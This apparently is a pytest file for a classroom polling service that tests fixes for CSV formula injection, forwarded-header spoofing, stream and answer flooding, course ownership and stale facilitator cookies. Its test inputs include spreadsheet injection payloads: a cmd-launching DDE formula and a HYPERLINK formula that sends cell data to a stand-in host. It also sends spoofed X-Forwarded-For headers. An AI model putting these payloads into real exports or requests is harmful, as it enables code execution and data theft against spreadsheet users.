"""Issue 22, holes 6-10 and the standalone facilitator cookie, without a hub: the rules as plain
functions, then the standalone service (`leerplein peiling start`) really run. The same holes
through a real hub: tests/hub/test_services_hostile.py."""

from __future__ import annotations

import contextlib
import csv
import io
import os
import re
import signal
import socket
import subprocess
import sys
import threading

import pytest
import requests

from conftest import ROOT
from leerplein.peiling.access import (Facilitator, JoinBudget, People, StreamSlots, client_address, may_manage,
                                      socket_owner)
from leerplein.peiling.service import export_csv
from leerplein.peiling.store import Store
from leerplein.spreadsheet import safe_cell

FORMULAS = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "=HYPERLINK(\"http://x.example/?\"&A1;\"klik\")",
            "\t=1+1", "\r=1+1"]


def dangerous(cell: str) -> bool:
    return cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not re.fullmatch(r"[+-]?\d+(?:[.,]\d+)?", cell)


def test_the_csv_export_holds_no_formulas(tmp_path):
    """Hole 8: words and approved open answers land in the 'Excel-ready' CSV as text, not formulas."""
    store = Store(tmp_path / "p.sqlite", b"k" * 32)
    s = store.create("Proef", [{"soort": "woorden", "tekst": "Een woord?"}, {"soort": "open", "tekst": "Wat?"}])
    for i, word in enumerate(["=1+1", "+cmd|calc!a0", "@sum(a1", "-2+3"]):
        store.answer(s.code, 0, f"toestel-{i}", word)
    store.show(s.code, 1)
    for i, text in enumerate(FORMULAS):
        store.answer(s.code, 1, f"toestel-{i}", text)
    for handle, _ in store.pending(s.code):
        store.moderate(s.code, handle, True)
    rows = list(csv.reader(io.StringIO(export_csv(store, s.code).lstrip("\ufeff")), delimiter=";"))
    cells = [c for row in rows[1:] for c in row]
    assert not [c for c in cells if dangerous(c)], rows
    answers = [row[3] for row in rows[1:]]
    assert "'=1+1" in answers and "'+cmd|calc!a0" in answers and "'@sum(a1" in answers  # still readable
    assert any(a.startswith("'=HYPERLINK(") for a in answers)
    store.close()


def test_a_cell_is_neutralised_only_when_it_could_run():
    assert [safe_cell(v) for v in ["=1", "+a", "-a", "@a", "\t=a", "\r=a"]] == \
        ["'=1", "'+a", "'-a", "'@a", "'\t=a", "'\r=a"]
    assert [safe_cell(v) for v in ["ok", "a=b", "-1", "+3", "2,5", 7, "", "'=al"]] == \
        ["ok", "a=b", "-1", "+3", "2,5", 7, "", "'=al"]


def test_only_the_hop_our_proxy_added_counts():
    """Hole 7: X-Real-IP and the left of X-Forwarded-For are the client's to write."""
    assert client_address("127.0.0.1", "6.6.6.6, 10.1.2.3", 1) == "10.1.2.3"
    assert client_address("127.0.0.1", "6.6.6.6,10.1.2.3", 2) == "6.6.6.6"
    assert client_address("127.0.0.1", "6.6.6.6", 0) == "127.0.0.1"  # standalone: the socket peer
    for broken in ("", "niet-een-adres", "10.1.2.3, ", None):
        assert client_address("127.0.0.1", broken, 1) == "127.0.0.1"
    assert client_address("127.0.0.1", "10.1.2.3", 2) == "127.0.0.1"  # fewer hops than configured


def test_streams_are_capped_per_device_address_and_poll():
    """Hole 6: one client holds a few streams; everyone else still gets theirs."""
    slots = StreamSlots(per_device=4, anonymous_per_address=3, per_address=10, per_poll=12, total=30)
    held = [slots.take("AAA", "1.1.1.1", "dev-1") for _ in range(6)]
    assert sum(h is not None for h in held) == 4
    assert [slots.take("AAA", "1.1.1.1", None) for _ in range(5)].count(None) == 2  # 3 without a cookie
    assert slots.take("AAA", "2.2.2.2", "dev-2") is not None  # another participant, same poll
    assert slots.take("BBB", "1.1.1.1", "dev-3") is not None  # the same address, another device
    # an address is capped in all (a NAT hall fits below it; the default is 1,500)
    for i in range(10):
        slots.take("BBB", "1.1.1.1", f"nat-{i}")
    assert slots.take("BBB", "1.1.1.1", "nat-x") is None and slots.take("BBB", "3.3.3.3", "dev-4") is not None
    # a poll is capped too, above any one address
    for i in range(12):
        slots.take("CCC", f"10.0.0.{i}", f"d{i}")
    assert slots.take("CCC", "10.0.1.1", "late") is None and slots.take("DDD", "10.0.1.1", "late") is not None
    # giving a slot back frees it
    slots.release(held[0])
    assert slots.take("AAA", "1.1.1.1", "dev-1") is not None
    defaults = StreamSlots()
    assert defaults.limits["address"] >= 1000 and defaults.limits["poll"] > defaults.limits["address"]
    assert defaults.total_limit > defaults.limits["poll"]


def test_polls_belong_to_their_course_and_course_only_means_the_course():
    """Holes 9 and 10 as rules: membership and ownership follow the roster's course."""
    people = People({"t1": {"rol": "teacher", "cursus": "a"}, "t2": {"rol": "teacher", "cursus": "a"},
                     "t3": {"rol": "teacher", "cursus": "b"}, "s1": {"rol": "student", "cursus": "a"},
                     "s2": {"rol": "student", "cursus": "b"}, "beh": {"rol": "admin", "cursus": "b"}})

    class Poll:
        cursus = "a"

    assert people.facilitator("s1") is None and people.facilitator("onbekend") is None
    assert may_manage(people.facilitator("t1"), Poll) and may_manage(people.facilitator("t2"), Poll)
    assert not may_manage(people.facilitator("t3"), Poll) and may_manage(people.facilitator("beh"), Poll)
    assert not may_manage(None, Poll)
    assert people.member("s1", "a") and people.member("t2", "a") and people.member("beh", "a")
    assert not people.member("s2", "a") and not people.member("t3", "a") and not people.member(None, "a")
    assert not people.member("onbekend", "a")
    # without a people file: the listed facilitators share one course
    bare = People(None, {"t1"})
    assert bare.facilitator("t1") == Facilitator("t1", "") and bare.facilitator("s1") is None


def test_an_old_database_gets_owners_and_old_polls_are_the_admins(tmp_path):
    import sqlite3

    db = sqlite3.connect(tmp_path / "oud.sqlite")
    db.executescript("CREATE TABLE sessies(code TEXT PRIMARY KEY, titel TEXT NOT NULL, vragen TEXT NOT NULL, "
                     "huidige INTEGER NOT NULL DEFAULT 0, status TEXT NOT NULL DEFAULT 'open', alleen_cursus INTEGER "
                     "NOT NULL DEFAULT 0, plan TEXT NOT NULL DEFAULT '', gemaakt REAL NOT NULL, eigen_tempo INTEGER "
                     "NOT NULL DEFAULT 0);"
                     "INSERT INTO sessies VALUES('OUD777','Oud','[{\"soort\": \"open\", \"tekst\": \"Wat?\"}]',0,"
                     "'open',0,'',0,0);")
    db.commit()
    db.close()
    store = Store(tmp_path / "oud.sqlite", b"k" * 32)
    old = store.get("OUD777")
    assert (old.eigenaar, old.cursus) == ("", "")
    assert not may_manage(Facilitator("t1", "leerplein"), old) and may_manage(Facilitator("b", "x", True), old)
    new = store.create("Nieuw", [{"soort": "open", "tekst": "Wat?"}], eigenaar="t1", cursus="leerplein")
    assert (store.get(new.code).eigenaar, store.get(new.code).cursus) == ("t1", "leerplein")
    store.close()


# the standalone service, really run ------------------------------------------------------------

def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def start_peiling(state, port):
    proc = subprocess.Popen([sys.executable, "-m", "leerplein.cli", "peiling", "start", "--port", str(port),
                             "--state-dir", str(state)], cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                            text=True)
    line = ""
    while "Facilitator" not in line:
        line = proc.stdout.readline()
        assert line or proc.poll() is None, "peiling did not start"
    threading.Thread(target=proc.stdout.read, daemon=True).start()  # a full pipe would block it
    return proc, re.search(r"(http://\S+/begeleider/inloggen\?sleutel=\S+)", line).group(1)


def stop_peiling(proc) -> None:
    proc.send_signal(signal.SIGINT)  # Ctrl-C
    assert proc.wait(timeout=20) == 0


def test_a_restart_with_a_new_link_ends_the_old_facilitator_cookie(tmp_path):
    port = free_port()
    base = f"http://127.0.0.1:{port}/"
    proc, link = start_peiling(tmp_path, port)
    try:
        fac = requests.Session()
        assert "Peiling voor de begeleider" in fac.get(link, timeout=10).text
        old_cookie = fac.cookies.get("peiling-begeleider")
        assert old_cookie
    finally:
        stop_peiling(proc)
    proc, new_link = start_peiling(tmp_path, port)
    try:
        assert new_link != link
        stale = requests.get(f"{base}begeleider", cookies={"peiling-begeleider": old_cookie}, timeout=10)
        assert stale.status_code == 403 and "Alleen de begeleider" in stale.text
        assert requests.get(link, timeout=10).status_code == 403  # the old link is dead too
        fresh = requests.Session()
        assert "Peiling voor de begeleider" in fresh.get(new_link, timeout=10).text
    finally:
        stop_peiling(proc)


def test_one_client_cannot_take_every_stream(tmp_path):
    """Hole 6 on the standalone service: a device holds 4 streams, a cookie-less client 20; another
    participant's stream still opens. (Every client here is 127.0.0.1, like a hall behind NAT.)"""
    port = free_port()
    base = f"http://127.0.0.1:{port}/"
    proc, link = start_peiling(tmp_path, port)
    held = []
    try:
        fac = requests.Session()
        fac.get(link, timeout=10)
        made = fac.post(f"{base}begeleider", data={"_xsrf": fac.cookies.get("_xsrf"), "titel": "Stromen",
                                                    "vragen": "keuze: Wie? | A | B"}, timeout=10)
        code = re.search(r"Code <strong>([A-Z0-9]{6})", made.text).group(1)
        hostile = requests.Session()
        hostile.get(f"{base}p/{code}", timeout=10)  # gets a device cookie, like any participant
        statuses = []
        for _ in range(8):
            r = hostile.get(f"{base}p/{code}/stroom", stream=True, timeout=10)
            statuses.append(r.status_code)
            held.append(r)
        assert statuses.count(200) == 4 and statuses.count(429) == 4, statuses
        anonymous = []
        for _ in range(25):
            r = requests.get(f"{base}p/{code}/stroom", stream=True, timeout=10)
            anonymous.append(r.status_code)
            held.append(r)
        assert anonymous.count(200) == 20 and anonymous.count(429) == 5, anonymous
        other = requests.Session()
        other.get(f"{base}p/{code}", timeout=10)
        r = other.get(f"{base}p/{code}/stroom", stream=True, timeout=10)
        held.append(r)
        assert r.status_code == 200 and '"code"' in next(r.iter_lines(decode_unicode=True))
    finally:
        for r in held:
            r.close()
        stop_peiling(proc)


@contextlib.contextmanager
def serve_app(tmp_path, **settings):
    """Peiling's app with the given settings, on a real port in a thread of this process."""
    import asyncio
    import threading

    from leerplein.peiling.service import make_app

    store = Store(tmp_path / "p.sqlite", b"k" * 32)
    code = store.create("Klein", [{"soort": "keuze", "tekst": "Wie?", "opties": ["A", "B"]}]).code
    port, ready, box = free_port(), threading.Event(), {}

    def serve():
        loop = asyncio.new_event_loop()
        asyncio.set_event_loop(loop)
        app = make_app(store, cookie_secret=b"s" * 32, facilitator_token="t", plans=lambda: [], **settings)
        box["server"], box["loop"] = app.listen(port, address="127.0.0.1"), loop
        ready.set()
        loop.run_forever()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    ready.wait(10)
    try:
        yield f"http://127.0.0.1:{port}/", code
    finally:
        box["loop"].call_soon_threadsafe(box["loop"].stop)
        thread.join(10)
        store.close()


@pytest.fixture
def small_peiling(tmp_path):
    with serve_app(tmp_path, new_answers_per_address=3) as served:
        yield served


def test_one_address_cannot_fill_a_questions_answer_cap(small_peiling):
    """Hole 7's aim (fill the answer cap, so real participants get 400) from one address with
    many devices: new answers per question per address are capped too (default 1,500)."""
    base, code = small_peiling
    results = []
    guests = [requests.Session() for _ in range(5)]
    for guest in guests:
        guest.get(f"{base}p/{code}", timeout=10)
        r = guest.post(f"{base}p/{code}", data={"_xsrf": guest.cookies.get("_xsrf"), "vraag": "0", "antwoord": "A"},
                       timeout=10)
        results.append(r.status_code)
    assert results == [200, 200, 200, 429, 429]
    changed = guests[0].post(f"{base}p/{code}", data={"_xsrf": guests[0].cookies.get("_xsrf"), "vraag": "0",
                                                      "antwoord": "B"}, timeout=10)
    assert changed.status_code == 200 and "Je antwoord is ontvangen" in changed.text  # changing hers still works


def new_devices_with_spoofed_addresses(base: str, code: str, tries: int) -> list[int]:
    statuses = []
    for i in range(tries):
        spoof = f"10.9.{i}.1"
        statuses.append(requests.get(f"{base}p/{code}", headers={"X-Forwarded-For": spoof, "X-Real-IP": spoof},
                                     timeout=10).status_code)
    return statuses


def test_a_local_client_past_the_proxy_cannot_vouch_for_addresses(tmp_path):
    """Hole 7 from a student's own code on the hub machine: she connects to Peiling's port
    directly and writes X-Forwarded-For herself. Only a local socket owned by the proxy's uid
    counts as the proxy; anyone else is counted by her socket address."""
    with serve_app(tmp_path, proxy_hops=1, proxy_uid=os.getuid() + 1,
                   joins=JoinBudget(burst=3, per_second=0)) as (base, code):
        assert new_devices_with_spoofed_addresses(base, code, 5) == [200, 200, 200, 429, 429]
    (tmp_path / "b").mkdir()
    with serve_app(tmp_path / "b", proxy_hops=1, proxy_uid=os.getuid(),
                   joins=JoinBudget(burst=3, per_second=0)) as (base, code):
        assert new_devices_with_spoofed_addresses(base, code, 5) == [200] * 5  # the proxy's hop counts


@pytest.mark.skipif(os.geteuid() != 0, reason="connects as another user (runuser)")
def test_the_kernel_names_who_owns_a_local_connection():
    import pwd

    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen()
        port = server.getsockname()[1]
        client = subprocess.Popen(["runuser", "-u", "nobody", "--", sys.executable, "-c",
                                   f"import socket,time; s=socket.create_connection(('127.0.0.1',{port})); time.sleep(5)"])
        try:
            server.settimeout(10)
            conn, _ = server.accept()
            assert socket_owner(conn.getpeername(), conn.getsockname()) == pwd.getpwnam("nobody").pw_uid
            assert socket_owner(("127.0.0.1", 1), conn.getsockname()) is None
            conn.close()
        finally:
            client.kill()
            client.wait()
